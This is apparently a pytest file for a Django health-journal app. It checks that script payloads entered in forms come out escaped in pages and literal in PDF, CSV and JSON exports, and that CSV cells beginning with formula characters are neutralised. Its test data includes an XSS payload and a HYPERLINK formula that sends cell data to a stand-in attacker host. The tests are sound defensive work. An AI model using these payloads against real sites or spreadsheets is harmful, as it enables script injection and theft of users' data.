"""Script in free text stays text: in every page that shows it, the PDF and the CSV.

The payload goes in through the forms a person uses (or, for a username, which the
sign-up form refuses, straight into the database as an admin-made account would), and
comes out escaped in HTML, literal in the PDF and as written in the CSV.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from http import HTTPStatus

import pypdf
import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from journal.models import CheckIn, Episode, Medication, Profile

PAYLOAD = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'&"
# The payload in each field, marked so that each can be found where it should be.
NOTES, EXERCISE, CHECKIN_NOTES = f"{PAYLOAD} nt", f"{PAYLOAD} ex", f"{PAYLOAD} ci"
MEDICINE, DOSE, NAME = f"{PAYLOAD} md", f"{PAYLOAD} ds", f"{PAYLOAD} nm"
# How a medicine is named in lists and findings: its name and dose.
MEDICINE_AND_DOSE = f"{MEDICINE} {DOSE}"
# An address may hold markup in a quoted local part, though not a space or a bare quote.
EMAIL_PAYLOAD = '"<script>alert(1)</script><img/src=x/onerror=alert(2)>\'&"@example.com'
RAW_MARKUP = ("<script>alert(", "<img src=x", "<img/src=x", "onerror=alert(2)>")


def assert_escaped(html: str, *shown: str) -> None:
    """No markup of the payload is left raw, and each piece of HTML in ``shown`` (the
    text escaped, in its place) is there."""
    for markup in RAW_MARKUP:
        assert markup not in html, f"raw {markup!r} in the page"
    for piece in shown:
        assert piece in html, f"{piece!r} not in the page"


def _page(client: Client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == HTTPStatus.OK, url
    return response.content.decode()


@pytest.fixture
def journal(user, alice_client) -> dict:
    """The payload in every free-text field, typed into the forms."""
    yesterday = timezone.localtime() - dt.timedelta(days=1)
    response = alice_client.post(
        reverse("medication_create"),
        {
            "name": MEDICINE,
            "dose": DOSE,
            "kind": "statin",
            "started_on": (yesterday - dt.timedelta(days=30)).date().isoformat(),
        },
        follow=True,
    )
    assert response.redirect_chain[-1][0] == reverse("medication_list")
    # The message naming what was saved is escaped too.
    assert_escaped(response.content.decode(), f"Saved {escape(MEDICINE)}.")
    medication = Medication.objects.get(owner=user)
    response = alice_client.post(
        reverse("episode_create"),
        {
            "started_at": yesterday.strftime("%Y-%m-%dT%H:%M"),
            "body_region": "calf",
            "side": "left",
            "intensity": "7",
            "exercise_type": EXERCISE,
            "medications_taken": [medication.pk],
            "notes": NOTES,
        },
    )
    assert response.status_code == HTTPStatus.FOUND
    response = alice_client.post(
        reverse("checkin_today"),
        {"date": timezone.localdate().isoformat(), "notes": CHECKIN_NOTES},
    )
    assert response.status_code == HTTPStatus.FOUND
    episode = Episode.objects.get(owner=user)
    assert (episode.notes, episode.exercise_type) == (NOTES, EXERCISE)
    assert (medication.name, medication.dose) == (MEDICINE, DOSE)
    assert CheckIn.objects.get(owner=user).notes == CHECKIN_NOTES
    return {"episode": episode, "medication": medication}


def test_episode_pages_show_the_text_escaped(journal, alice_client):
    episode = journal["episode"]
    detail = _page(alice_client, reverse("episode_detail", args=[episode.pk]))
    # Taken for it, and being taken then, are the medicine with its dose.
    assert_escaped(detail, escape(NOTES), escape(EXERCISE), escape(MEDICINE_AND_DOSE))
    edit = _page(alice_client, reverse("episode_edit", args=[episode.pk]))
    assert_escaped(edit, escape(NOTES), escape(EXERCISE), escape(MEDICINE_AND_DOSE))
    assert_escaped(_page(alice_client, reverse("episode_list")))
    assert_escaped(_page(alice_client, reverse("episode_delete", args=[episode.pk])))


def test_medication_pages_show_the_text_escaped(journal, alice_client):
    medication = journal["medication"]
    assert_escaped(_page(alice_client, reverse("medication_list")), escape(MEDICINE), escape(DOSE))
    edit = _page(alice_client, reverse("medication_edit", args=[medication.pk]))
    assert_escaped(
        edit,
        f"Edit {escape(MEDICINE)}</h1>",
        f'value="{escape(MEDICINE)}"',
        f'value="{escape(DOSE)}"',
    )
    delete = _page(alice_client, reverse("medication_delete", args=[medication.pk]))
    assert_escaped(delete, escape(MEDICINE))
    assert_escaped(_page(alice_client, reverse("profile")), escape(MEDICINE_AND_DOSE))
    response = alice_client.post(
        reverse("medication_delete", args=[medication.pk]), {"confirmed": "yes"}, follow=True
    )
    assert_escaped(response.content.decode(), f"Removed {escape(MEDICINE)} from your list.")


def test_checkin_pages_show_the_text_escaped(journal, alice_client):
    assert_escaped(
        _page(alice_client, reverse("checkin_today")), f">\n{escape(CHECKIN_NOTES)}</textarea>"
    )
    assert_escaped(_page(alice_client, reverse("checkin_list")))


def test_flags_and_patterns_name_the_medicine_escaped(journal, alice_client):
    # A statin being taken on the day of a cramp raises the medication flag, by name.
    finding = f"while taking {escape(MEDICINE_AND_DOSE)}"
    assert_escaped(_page(alice_client, reverse("flags")), finding)
    assert_escaped(_page(alice_client, reverse("patterns")), finding)


def test_account_details_are_shown_escaped(db):
    client = Client()
    password = "another-long-passphrase-77"
    signup = {"password1": password, "password2": password, "time_zone": "UTC"}
    refused = client.post(
        reverse("signup"), signup | {"username": PAYLOAD, "email": "x@example.com"}
    )
    assert refused.status_code == HTTPStatus.OK
    assert refused.context["form"].errors["username"]
    assert_escaped(refused.content.decode(), f'value="{escape(PAYLOAD)}"')  # back in its box
    response = client.post(reverse("signup"), signup | {"username": "eve", "email": EMAIL_PAYLOAD})
    assert response.status_code == HTTPStatus.FOUND
    assert User.objects.get(username="eve").email == EMAIL_PAYLOAD
    # The profile names no address (journal.accounts.identity says why); where the app does show
    # one, in a sign-up form sent back with an error, it is escaped.
    assert_escaped(_page(client, reverse("profile")))
    sent_back = Client().post(
        reverse("signup"), signup | {"username": "eve2", "email": EMAIL_PAYLOAD, "password2": "x"}
    )
    assert sent_back.status_code == HTTPStatus.OK
    assert_escaped(sent_back.content.decode(), f'value="{escape(EMAIL_PAYLOAD)}"')
    # An account made outside the sign-up form (the admin, a script) may have any name.
    made = User.objects.create_user(PAYLOAD, "made@example.com", password)
    Profile.objects.create(user=made)
    other = Client()
    other.force_login(made)
    assert_escaped(_page(other, reverse("profile")), f"Signed in as {escape(PAYLOAD)}")


REPORT = {"range": "90d", "name": NAME, "include_notes": "on"}


def _assert_report(html: str) -> None:
    assert_escaped(
        html,
        f"Muscle cramp report: {escape(NAME)}</h1>",
        f"<td>{escape(NOTES)}</td>",
        f'<th scope="row">{escape(MEDICINE_AND_DOSE)}</th>',
        f"while taking {escape(MEDICINE_AND_DOSE)}",
    )


def test_report_page_shows_the_text_escaped(journal, alice_client):
    response = alice_client.post(reverse("report"), REPORT)
    assert response.status_code == HTTPStatus.OK
    _assert_report(response.content.decode())


def _share(client: Client) -> str:
    response = client.post(reverse("share_list"), REPORT | {"days": "14"})
    assert response.status_code == HTTPStatus.OK
    assert_escaped(response.content.decode())
    return re.search(r"/s/([^/\"]+)/", response.context["new_link"][1]).group(1)


def test_shared_report_shows_the_text_escaped(journal, alice_client):
    token = _share(alice_client)
    _assert_report(_page(Client(), reverse("shared_report", args=[token])))


def _pdf_text(content: bytes) -> str:
    assert content.startswith(b"%PDF-")
    reader = pypdf.PdfReader(io.BytesIO(content))
    text = "".join(page.extract_text() for page in reader.pages)
    # A long line may wrap anywhere: compare without the line breaks and spaces.
    return "".join(text.split())


def _assert_literal_in_pdf(content: bytes) -> None:
    text = _pdf_text(content)
    squeezed = {t: "".join(t.split()) for t in (NAME, NOTES, MEDICINE_AND_DOSE)}
    assert f"Musclecrampreport:{squeezed[NAME]}" in text  # the name, as typed
    assert squeezed[NOTES] in text
    assert text.count(squeezed[MEDICINE_AND_DOSE]) >= 2  # the medicines table and the flag
    assert "&lt;" not in text and "&amp;" not in text, "not escaped twice"


def test_the_pdf_holds_the_text_as_typed(journal, alice_client):
    response = alice_client.post(reverse("report_pdf"), REPORT)
    assert response.status_code == HTTPStatus.OK
    assert response["Content-Type"] == "application/pdf"
    _assert_literal_in_pdf(response.content)


def test_the_shared_pdf_holds_the_text_as_typed(journal, alice_client):
    token = _share(alice_client)
    response = Client().get(reverse("shared_pdf", args=[token]))
    assert response.status_code == HTTPStatus.OK
    _assert_literal_in_pdf(response.content)


def _csv_rows(client: Client) -> list[dict[str, str]]:
    response = client.get(reverse("export_episodes_csv"))
    assert response.status_code == HTTPStatus.OK
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))


def test_the_csv_holds_the_text_as_written(journal, alice_client):
    (row,) = _csv_rows(alice_client)
    assert (row["notes"], row["exercise_type"]) == (NOTES, EXERCISE)
    assert row["medications_taken"] == MEDICINE


def test_csv_cells_a_spreadsheet_would_run_get_an_apostrophe(
    user, alice_client, other_user, client_for, make_episode, make_medication
):
    formula = "=" + PAYLOAD
    hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    episode = make_episode(user, notes=formula, exercise_type=hyperlink)
    episode.medications_taken.add(make_medication(user, name="+" + PAYLOAD))
    (row,) = _csv_rows(alice_client)
    assert row["notes"] == "'" + formula
    assert row["exercise_type"] == "'" + hyperlink
    assert row["medications_taken"] == "'+" + PAYLOAD
    # Imported again, the apostrophe comes off: the text is as it was typed.
    export = alice_client.get(reverse("export_episodes_csv")).content
    upload = SimpleUploadedFile("episodes.csv", export, content_type="text/csv")
    response = client_for(other_user).post(reverse("import"), {"file": upload})
    assert response.status_code == HTTPStatus.FOUND
    imported = Episode.objects.get(owner=other_user)
    assert (imported.notes, imported.exercise_type) == (formula, hyperlink)
    assert imported.medications_taken.get().name == "+" + PAYLOAD


def test_the_json_download_is_not_a_page(journal, alice_client):
    response = alice_client.get(reverse("export_all_data"))
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"
    data = json.loads(response.content)
    assert [e["notes"] for e in data["episodes"]] == [NOTES]
    assert [c["notes"] for c in data["checkins"]] == [CHECKIN_NOTES]
    assert [(m["name"], m["dose"]) for m in data["medications"]] == [(MEDICINE, DOSE)]


def test_a_charts_table_escapes_every_cell():
    """The charts' "Show as table" rows are written by a template tag, not the template
    engine's autoescaping: every cell must still come out as text."""
    from django.template import Context, Template

    html = Template("{% load journal_tags %}{% table_body rows %}").render(
        Context({"rows": [[PAYLOAD, PAYLOAD, 3]]})
    )
    assert_escaped(html, f'<tr><th scope="row">{escape(PAYLOAD)}</th><td>{escape(PAYLOAD)}</td>')
    assert html.endswith("<td>3</td></tr>")
